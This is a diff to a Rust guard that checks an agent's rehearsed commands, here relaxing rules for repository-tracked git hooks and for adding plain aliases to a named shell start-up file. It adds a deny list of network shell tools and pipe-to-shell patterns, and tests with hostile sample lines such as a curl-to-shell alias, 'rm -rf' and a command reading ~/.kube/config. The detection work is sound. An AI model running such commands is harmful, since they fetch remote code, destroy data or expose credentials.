@@ -4,7 +4,7 @@
 //! | id | action | fires when |
 //! |---|---|---|
 //! | `git.history` | block | commits become unreachable, objects vanish, or the git folder is deleted |
-//! | `git.hooks` | block | a git hook is created or changed (ask when the task asks for hooks; nothing when it asks for them and each is a copy of a file the repository tracks, or `core.hooksPath` names a tracked folder) |
+//! | `git.hooks` | block | a git hook is created or changed (ask when the task asks for hooks; nothing when it asks for them, or to set up or install, and each is a copy of a file the repository tracks, or `core.hooksPath` names a tracked folder) |
 //! | `git.config` | block | git config (a repository's, or the user's own `~/.gitconfig`: ask when the task names it) is deleted or gains a key that runs programs or redirects remotes; `core.hooksPath` set to a folder the repository tracks counts as a hook install |
 //! | `protected` | block | a path matching a `protect` glob of the configuration is written, created or deleted |
 //! | `foresee.self` | block | foresee's own state or configuration is written |
@@ -32,7 +32,7 @@
 //! | `network.attempt` | ask | the command tried to reach a host outside the machine (it failed: no network during rehearsal) |
 //! | `privilege.change` | block | a set-id bit or file capabilities are set, sudoers, the accounts database or a polkit/doas/PAM policy is written, or a program that switches identity (sudo, su, doas, pkexec, ...) is run; final even when the task names it |
 //! | `privilege.staged` | ask | a container definition (compose file, dev container, Kubernetes manifest) gains privileged mode, the host's processes, administrator capabilities, the host's root or docker socket; or a system tree being built (a root filesystem, an image, a chroot) gets a sudoers rule (aliases expanded), doas rule, polkit rule or account that gives root without a password (`NOPASSWD: ALL` or a shell, an empty password field, a second user id 0, a member of a root-equivalent group such as docker) |
-//! | `sensitive.write` | block | a shell start-up file or drop-in, session environment, package manager configuration, cron or systemd unit, autostart entry, authorized_keys, ssh configuration, editor task file, Python start-up hook or a command shadowing a system one is written, or a protected file (a private key, a token file) or `~/.ssh` is opened to other users by its permissions (ask when the task names it) |
+//! | `sensitive.write` | block | a shell start-up file or drop-in, session environment, package manager configuration, cron or systemd unit, autostart entry, authorized_keys, ssh configuration, editor task file, Python start-up hook or a command shadowing a system one is written, or a protected file (a private key, a token file) or `~/.ssh` is opened to other users by its permissions (ask when the task names it; nothing when it names a shell start-up file and adds only plain aliases) |
 //! | `secret.in-output` | ask | the output holds credential-like values (by shape) not traced to a protected file |
 //! | `secret.in-file` | ask | a file (one the task names only when it also speaks of keys, tokens, passwords...), whose name does not say it holds credentials (`.env`, `secrets.yaml`, `config.json`...), gains credential-like values (by shape): a report or a log that would carry them on |
 //! | `limit.reached` | ask | a limit (time, memory, processes, snapshot size) ended the rehearsal: its effects are partial |
@@ -181,7 +181,8 @@ impl Wall {
                     r.hooks_changed.iter().all(|h| self.scope.says(h.rsplit('/').next().unwrap_or(h)))
                         || asks_hooks
                         || self.scope.says("hook") && r.hooks_changed.len() == 1;
-                if !(asked && r.hooks_from_repo) {
+                // Setting up a repository's development environment installs its own hooks.
+                if !((asked || self.scope.installs) && r.hooks_from_repo) {
                     findings.push(Finding {
                         rule: "git.hooks",
                         decision: if asked { Decision::Ask } else { Decision::Block },
@@ -192,8 +193,10 @@ impl Wall {
                     });
                 }
             }
-            if let Some(dir) =
-                r.hooks_path_tracked.as_deref().filter(|_| !(asks_hooks || self.scope.says("hook")))
+            if let Some(dir) = r
+                .hooks_path_tracked
+                .as_deref()
+                .filter(|_| !(asks_hooks || self.scope.says("hook") || self.scope.installs))
             {
                 findings.push(Finding {
                     rule: "git.hooks",
@@ -808,12 +811,22 @@ impl Wall {
                 .into_iter()
                 .collect();
             let named = sensitive.iter().all(|f| self.named(f));
-            findings.push(Finding {
-                rule: "sensitive.write",
-                // A sensitive place the user's own request names is asked about, never let through silently.
-                decision: if named { Decision::Ask } else { Decision::Block },
-                what: format!("would change {} ({})", list(&sensitive), examples(&kinds)),
-            });
+            // The start-up file the request names, given only aliases and comments: what was
+            // asked ("add the team's git aliases to my ~/.bashrc"), and nothing that runs.
+            let inert = named
+                && sensitive.iter().all(|f| {
+                    f.sensitive.as_deref() == Some("shell start-up file")
+                        && f.transition == Transition::Modified
+                        && only_inert_aliases(&added_text(f))
+                });
+            if !inert {
+                findings.push(Finding {
+                    rule: "sensitive.write",
+                    // A sensitive place the user's own request names is asked about, never let through silently.
+                    decision: if named { Decision::Ask } else { Decision::Block },
+                    what: format!("would change {} ({})", list(&sensitive), examples(&kinds)),
+                });
+            }
         }
         // Credential-shaped values a command newly writes into a file that is no place for
         // them (a report, a log, a manifest): the same leak as printing them, only later.
@@ -1112,6 +1125,55 @@ fn changed_lines_mention(f: &FileEffect, words: &[&str]) -> bool {
     old_lines.symmetric_difference(&new_lines).any(|l| words.iter().any(|w| l.contains(w)))
 }
 
+/// Whether added start-up file lines are only comments, blank lines and aliases that run a
+/// plain command (`alias gs='git status'`): no substitution, no download, no sourcing, no
+/// privilege, no redirection.
+fn only_inert_aliases(added: &str) -> bool {
+    const RISKY: &[&str] = &[
+        "$(",
+        "`",
+        "curl",
+        "wget",
+        "nc ",
+        "ncat",
+        "socat",
+        "eval",
+        "source ",
+        "base64",
+        "sudo",
+        "doas",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        ">",
+        "<",
+        "rm ",
+        "chmod",
+        "ld_preload",
+        "python",
+        "perl",
+        "node ",
+        "ruby",
+        "/dev/tcp",
+        "export",
+        "\\x",
+    ];
+    let mut any = false;
+    for l in added.lines().map(str::trim) {
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        let Some(def) = l.strip_prefix("alias ") else { return false };
+        let lower = def.to_ascii_lowercase();
+        if RISKY.iter().any(|r| lower.contains(r)) || def.contains(';') || def.contains("&&") {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
 /// The lines of `f`'s new content that its old content did not have (text files up to 4 MiB).
 fn added_text(f: &FileEffect) -> String {
     const MAX: u64 = 4 << 20;
@@ -1308,7 +1370,25 @@ fn list_with(files: &[&FileEffect], noun: &str) -> String {
 
 #[cfg(test)]
 mod tests {
-    use super::{looks_like_secret_value, own_registry_lookup};
+    use super::{looks_like_secret_value, only_inert_aliases, own_registry_lookup};
+
+    #[test]
+    fn plain_aliases_run_nothing_new() {
+        assert!(only_inert_aliases(
+            "# team aliases\nalias gs='git status'\nalias gl='git log --oneline -20'\n"
+        ));
+        for added in [
+            "alias gs='git status'\nexport NODE_OPTIONS='--require /tmp/x.js'",
+            "alias ls='rm -rf'",
+            "alias up='curl -s x.example | sh'",
+            "alias gs='git status'; source ~/.x",
+            "alias k=\"$(cat ~/.kube/config)\"",
+            "",
+            "# only a comment",
+        ] {
+            assert!(!only_inert_aliases(added), "{added:?}");
+        }
+    }
 
     #[test]
     fn code_and_configuration_are_not_secret_values() {
